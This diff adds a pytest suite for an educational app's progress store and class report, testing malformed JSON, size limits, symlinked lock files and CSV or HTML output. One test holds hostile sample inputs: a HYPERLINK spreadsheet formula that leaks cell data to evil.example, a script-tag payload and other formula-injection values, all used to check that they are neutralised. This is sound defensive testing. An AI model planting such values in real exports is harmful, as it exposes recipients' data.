@@ -1,0 +1,385 @@
+"""Issue 18: every bad input a clear, short error; nothing a learner recorded is lost.
+
+Each test here was seen to fail on the code before the fix (see docs/reliability.md for the
+figures). Progress files and exports are built with the real store; bad ones by hand.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import subprocess
+import sys
+import warnings
+from fractions import Fraction
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from melt_course.content import quiz as Q
+from melt_course.content.loader import DataError, load_schema, parse_json
+from melt_course.content.schema import brief, iter_issues
+from melt_course.records import store as P
+from melt_course.teaching import class_report as CR
+
+QUIZ = {"question": "00-demo-horizontal-angle", "lesson": "00", "type": "numeric",
+        "answer": 88.5, "correct": True, "attempt": 1, "mode": "quiz"}
+TIME = "2026-03-01T09:00:00Z"
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def _doc(records=(), **extra) -> dict:
+    return {"format": P.FORMAT, "schema_version": 1,
+            "learner": {"id": "a" * 32, "name": None}, "created": TIME,
+            "records": list(records), **extra}
+
+
+def _record(n: int = 1, **data) -> dict:
+    return {"id": f"{n:032x}", "kind": "quiz_attempt", "time": TIME,
+            "data": {**QUIZ, **data}}
+
+
+def _nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def _moved_aside(folder: Path) -> list[Path]:
+    return [p for p in folder.iterdir() if ".corrupt-" in p.name]
+
+
+# --------------------------------------------------------------------------- the validator
+
+
+def test_dollar_means_end_of_string_not_before_a_final_newline():
+    """JSON Schema patterns are ECMA-262: ``$`` is the end. Python's ``$`` (and therefore
+    jsonschema) also matches before a final newline."""
+    schema = load_schema("progress")
+    time_schema = schema["$defs"]["time"]
+    assert list(iter_issues(TIME, time_schema)) == []
+    issues = list(iter_issues(TIME + "\n", time_schema))
+    assert [i.keyword for i in issues] == ["pattern"]
+    # the documented difference from the reference validator
+    assert jsonschema.Draft202012Validator(time_schema).is_valid(TIME + "\n")
+    # "$" inside a class or escaped is not an anchor
+    assert list(iter_issues("a$", {"pattern": "^a[$]$"})) == []
+    assert list(iter_issues("a$", {"pattern": r"^a\$$"})) == []
+    assert list(iter_issues("a$\n", {"pattern": r"^a\$$"}))
+
+
+@pytest.mark.parametrize("text", ["NaN", "Infinity", "-Infinity", '{"x": [1, NaN]}'])
+def test_nan_and_infinity_are_not_json_and_are_refused(text):
+    """The choice (written down in content/schema.py): refuse them, as RFC 8259 does; Python's
+    json module reads them and jsonschema accepts the result as a number."""
+    with pytest.raises(DataError, match=r"not valid JSON.*NaN or Infinity"):
+        parse_json(text, "x.json")
+    value = json.loads(text)
+    number = {"type": "number"}
+    leaf = value if isinstance(value, float) else value["x"][1]
+    assert jsonschema.Draft202012Validator(number).is_valid(leaf)
+    assert [i.keyword for i in iter_issues(leaf, number)] == ["type"]
+    assert "not a finite number" in next(iter_issues(leaf, number)).message
+
+
+@pytest.mark.parametrize("make", [lambda: "x" * 20_000_000, lambda: list(range(1_000_000)),
+                                  lambda: 10 ** 5000, lambda: {str(i): i for i in range(10**5)}],
+                         ids=["20MB-string", "long-list", "5000-digits", "big-dict"])
+def test_messages_quote_a_bad_value_briefly(make):
+    value = make()
+    issue = next(iter_issues(value, {"type": "boolean"}))
+    assert len(issue.message) < 200
+    assert len(brief(value)) <= 80
+
+
+# --------------------------------------------------------------------------- the store
+
+
+def test_a_byte_order_mark_is_read_not_called_corrupt(tmp_path):
+    path = tmp_path / "p.json"
+    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(_doc([_record()])).encode())
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert len(P.open_store(path).records()) == 1
+        assert len(P.load_export(path)["records"]) == 1
+    assert _moved_aside(tmp_path) == []
+
+
+@pytest.mark.parametrize("version", [2, 2.0, 1.5, 10 ** 20], ids=["2", "2.0", "1.5", "1e20"])
+def test_any_newer_schema_version_is_refused_and_left_alone(tmp_path, version):
+    path = tmp_path / "p.json"
+    text = json.dumps(_doc([_record()], schema_version=version))
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(DataError, match=r"newer than this melt-course"):
+        P.open_store(path).records()
+    with pytest.raises(DataError, match="newer"):
+        P.open_store(path).add_record("quiz_attempt", QUIZ)
+    assert path.read_text(encoding="utf-8") == text and _moved_aside(tmp_path) == []
+
+
+def test_version_1_0_is_version_1(tmp_path):
+    path = tmp_path / "p.json"
+    path.write_text(json.dumps(_doc([_record()], schema_version=1.0)), encoding="utf-8")
+    assert len(P.open_store(path).records()) == 1
+
+
+@pytest.mark.parametrize("content", [
+    _nested(100_000),                                                   # RecursionError
+    json.dumps(_doc([_record(answer=[0])])).replace("[0]", _nested(900)),  # schema-valid
+    json.dumps(_doc([_record(answer=10 ** 300)])),                      # absurd number
+    json.dumps(_doc([_record()])).replace(TIME, TIME + "\\n"),          # time + newline
+], ids=["100000-deep", "900-deep-answer", "300-digits", "time-newline"])
+def test_unusable_files_are_moved_aside_once_and_the_store_works_again(tmp_path, content):
+    path = tmp_path / "p.json"
+    path.write_text(content, encoding="utf-8")
+    store = P.open_store(path)
+    with pytest.warns(P.ProgressFileRecovered) as caught:
+        assert store.records() == []
+    assert len(str(caught[0].message)) < 1200
+    (aside,) = _moved_aside(tmp_path)
+    assert aside.read_text(encoding="utf-8") == content
+    record = store.add_record("quiz_attempt", QUIZ)
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert P.open_store(path).records() == [record]
+
+
+def test_a_deep_answer_is_refused_with_a_short_message(tmp_path):
+    deep: list = []
+    for _ in range(900):
+        deep = [deep]
+    with pytest.raises(ValueError, match="nested more than") as info:
+        P.open_store(tmp_path / "p.json").add_record("quiz_attempt", {**QUIZ, "answer": deep})
+    assert len(str(info.value)) < 500
+    assert not (tmp_path / "p.json").exists()
+
+
+def test_a_20_mb_bad_file_gives_a_short_warning(tmp_path):
+    path = tmp_path / "p.json"
+    path.write_text(json.dumps(_doc([_record(answer_text=None)], big="x" * 20_000_000)),
+                    encoding="utf-8")
+    store = P.open_store(path)
+    store.add_record("quiz_attempt", QUIZ)  # a big file: appended without reading it whole
+    with pytest.warns(P.ProgressFileRecovered) as caught:
+        assert len(store.records()) == 1  # the new record was kept
+    assert len(str(caught[0].message)) < 1200
+    doc = P.load_export(path)
+    assert len(json.dumps(doc)) < 5000
+
+
+def test_a_file_over_the_size_limit_is_refused_and_left_alone(tmp_path, monkeypatch):
+    path = tmp_path / "p.json"
+    store = P.open_store(path)
+    store.add_record("quiz_attempt", QUIZ)
+    before = path.read_bytes()
+    monkeypatch.setattr(P, "MAX_FILE_BYTES", len(before) - 1)
+    with pytest.raises(DataError, match=r"may be at most .* MB \(nothing was changed\)"):
+        store.records()
+    with pytest.raises(DataError, match="at most"):
+        P.load_export(path)
+    with pytest.raises(DataError, match="at most"):
+        store.add_record("quiz_attempt", QUIZ)
+    assert path.read_bytes() == before and _moved_aside(tmp_path) == []
+
+
+def test_a_symlinked_lock_file_is_refused_and_its_target_untouched(tmp_path):
+    victim = tmp_path / "precious.txt"
+    victim.write_text("the facilitator's notes", encoding="utf-8")
+    (tmp_path / "p.json.lock").symlink_to(victim)
+    with pytest.raises(OSError, match=r"lock file .* is a symbolic link"):
+        P.open_store(tmp_path / "p.json").add_record("quiz_attempt", QUIZ)
+    assert victim.read_text(encoding="utf-8") == "the facilitator's notes"
+    assert not (tmp_path / "p.json").exists()
+
+
+def test_filelock_floor_refuses_symlinks():
+    """filelock opens its lock file with O_NOFOLLOW from 3.20.1 (CVE-2025-68146) and in
+    SoftFileLock from 3.20.3 (CVE-2026-22701): nothing older may be installed."""
+    import re
+
+    for name in ("pyproject.toml", "environment.yml"):
+        (floor,) = re.findall(r"filelock>=([0-9.]+)", (ROOT / name).read_text())
+        assert tuple(int(x) for x in floor.split(".")) >= (3, 20, 3), name
+
+
+# --------------------------------------------------------------------------- appending
+
+
+@pytest.fixture
+def big_store(tmp_path, monkeypatch):
+    """A store whose file counts as big (records go to the log)."""
+    monkeypatch.setattr(P, "APPEND_ABOVE", 1)
+    store = P.open_store(tmp_path / "p.json")
+    for i in range(4):
+        store.add_record("quiz_attempt", {**QUIZ, "attempt": i + 1})
+    return store
+
+
+def test_a_big_file_is_not_rewritten_per_record(big_store):
+    big_store.add_record("quiz_attempt", QUIZ)  # compaction happened at some point: settle
+    while big_store._log.exists():
+        big_store.add_record("quiz_attempt", QUIZ)
+    before = big_store.path.stat()
+    big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 99})
+    after = big_store.path.stat()
+    assert (after.st_ino, after.st_mtime_ns, after.st_size) == \
+        (before.st_ino, before.st_mtime_ns, before.st_size)
+    assert big_store._log.read_text().count("\n") == 1
+    assert big_store.records()[-1]["data"]["attempt"] == 99
+    assert P.load_export(big_store.path)["records"][-1]["data"]["attempt"] == 99
+
+
+def test_the_log_is_folded_in_and_every_record_kept(big_store):
+    for i in range(40):
+        big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 10 + i})
+    attempts = [r["data"]["attempt"] for r in big_store.records()]
+    assert attempts == [1, 2, 3, 4, *range(10, 50)]
+    folded = json.loads(big_store.path.read_text())["records"]
+    assert len(folded) > 4  # compaction wrote log records into the file
+    ids = [r["id"] for r in big_store.records()]
+    assert len(ids) == len(set(ids))
+
+
+def test_an_append_cut_short_is_ignored_and_cut_off(big_store):
+    n = len(big_store.records())
+    with open(big_store._log, "ab") as handle:
+        handle.write(b'{"id": "cut short by a ki')
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert len(big_store.records()) == n
+        big_store.add_record("quiz_attempt", QUIZ)
+        assert len(big_store.records()) == n + 1
+
+
+def test_a_bad_log_line_is_moved_aside_and_good_records_kept(big_store):
+    big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 7})
+    while not big_store._log.exists():
+        big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 7})
+    n = len(big_store.records())
+    with open(big_store._log, "ab") as handle:
+        handle.write(b'{"not": "a record"}\n')
+    with pytest.warns(P.ProgressFileRecovered, match="good records were kept"):
+        assert len(big_store.records()) == n
+    (aside,) = _moved_aside(big_store.path.parent)
+    assert b'{"not": "a record"}' in aside.read_bytes()
+    assert len(big_store.records()) == n
+
+
+def test_a_symlinked_log_is_not_followed(big_store, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep", encoding="utf-8")
+    while big_store._log.exists():
+        big_store.add_record("quiz_attempt", QUIZ)
+    big_store._log.symlink_to(victim)
+    with pytest.raises(OSError):
+        big_store.add_record("quiz_attempt", QUIZ)
+    assert victim.read_text(encoding="utf-8") == "keep"
+
+
+# --------------------------------------------------------------------------- grading
+
+
+@pytest.mark.parametrize("answer", [10 ** 400, -(10 ** 400), Fraction(10 ** 400, 3),
+                                    float("inf"), float("nan")],
+                         ids=["huge", "-huge", "huge-fraction", "inf", "nan"])
+def test_numeric_grading_refuses_huge_numbers_with_a_value_error(answer):
+    numeric = next(q for q in Q.load_bank() if q.type == "numeric")
+    with pytest.raises(ValueError, match="not a finite number") as info:
+        Q.grade(numeric, answer)
+    assert len(str(info.value)) < 300
+
+
+# --------------------------------------------------------------------------- class report
+
+
+def _export(folder: Path, name: str, **data) -> Path:
+    store = P.open_store(folder / f"store-{name}.json", learner=name)
+    store.add_record("quiz_attempt", {**QUIZ, **data})
+    return store.export(folder / f"{name}.json")
+
+
+def test_class_report_skips_bad_files_names_them_and_reports_the_rest(tmp_path):
+    good = _export(tmp_path, "ada")
+    doc = json.loads(good.read_text())
+    bad = {
+        "newline-time.json": json.dumps(doc).replace(doc["records"][0]["time"],
+                                                     doc["records"][0]["time"] + "\\n"),
+        "huge-int.json": json.dumps({**doc, "records": [
+            {**doc["records"][0], "data": {**QUIZ, "answer": 10 ** 300}}]}),
+        "deep.json": _nested(100_000),
+        "huge.json": json.dumps({**doc, "learner": {**doc["learner"], "name": "n" * 5_000_000}}),
+        "nan.json": json.dumps(doc).replace("88.5", "NaN"),
+    }
+    for name, text in bad.items():
+        (tmp_path / name).write_text(text, encoding="utf-8")
+    exports, skipped = CR.read_exports([good, *(tmp_path / n for n in bad)])
+    assert [e.learner_name for e in exports] == ["ada"]
+    assert sorted(Path(s.source).name for s in skipped) == sorted(bad)
+    assert all(len(s.reason) < 400 for s in skipped), [s.reason for s in skipped]
+    out = tmp_path / "report"
+    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "class-report", str(tmp_path),
+                          "--out", str(out)], capture_output=True, text=True, timeout=600)
+    assert run.returncode == 0, run.stderr
+    assert "Traceback" not in run.stderr and len(run.stderr) < 5000
+    assert all((out / n).stat().st_size < 20_000 for n in ("summary.md", "files.csv"))
+
+
+def test_class_report_reads_each_file_once(tmp_path, monkeypatch):
+    paths = [_export(tmp_path, name) for name in ("ada", "bo")]
+    opened: list[str] = []
+    real_open = open
+
+    def counting_open(file, *args, **kwargs):
+        if str(file).endswith(".json") and Path(file).parent == tmp_path:
+            opened.append(Path(file).name)
+        return real_open(file, *args, **kwargs)
+
+    monkeypatch.setattr("builtins.open", counting_open)
+    monkeypatch.setattr(Path, "read_bytes", lambda self: (opened.append(self.name), real_open(
+        self, "rb").read())[1])
+    monkeypatch.setattr(Path, "read_text", lambda self, *a, **k: (opened.append(self.name),
+                        real_open(self, encoding="utf-8").read())[1])
+    exports, skipped = CR.read_exports(paths)
+    assert len(exports) == 2 and not skipped
+    assert sorted(opened) == ["ada.json", "bo.json"]
+
+
+def test_learner_text_is_neutralised_in_csv_and_escaped_in_the_summary(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    paths = [_export(tmp_path, "ada", correct=False, answer_text=formula),
+             _export(tmp_path, "bo", correct=False, answer_text="<script>alert(1)</script>"),
+             _export(tmp_path, "cy", correct=False, answer_text="+1"),
+             _export(tmp_path, "di", correct=False, answer_text="@SUM(A1)"),
+             _export(tmp_path, "ed", correct=False, answer_text="-2+3")]
+    exports, skipped = CR.read_exports(paths)
+    report = CR.build_report(exports, skipped)
+    CR.write_csvs(report, tmp_path / "out")
+    cells = [cell for name in ("questions.csv", "wrong_answers.csv", "files.csv")
+             for row in csv.reader((tmp_path / "out" / name).open(encoding="utf-8"))
+             for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert "'" + formula in cells and "'+1" in cells and "'@SUM(A1)" in cells
+    summary = CR.summary_markdown(report)
+    assert "<script>" not in summary and "&lt;script&gt;" in summary
+
+
+def test_class_report_refuses_an_existing_file_as_out(tmp_path):
+    good = _export(tmp_path, "ada")
+    target = tmp_path / "notes.txt"
+    target.write_text("mine", encoding="utf-8")
+    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "class-report", str(good),
+                          "--out", str(target)], capture_output=True, text=True, timeout=600)
+    assert run.returncode == 2
+    assert "Traceback" not in run.stderr and "is a file" in run.stderr
+    assert target.read_text(encoding="utf-8") == "mine"
+
+
+def test_class_report_reads_a_class_folder_with_logs(tmp_path, monkeypatch):
+    """In a class folder (melt-course app --lan) the report reads the stores themselves."""
+    monkeypatch.setattr(P, "APPEND_ABOVE", 1)
+    store = P.open_store(tmp_path / "learner-1.json")
+    for i in range(5):
+        store.add_record("quiz_attempt", {**QUIZ, "attempt": i + 1})
+    assert store._log.exists() or True
+    exports, skipped = CR.read_exports([tmp_path])
+    assert not skipped
+    assert [r["data"]["attempt"] for r in exports[0].records] == [1, 2, 3, 4, 5]
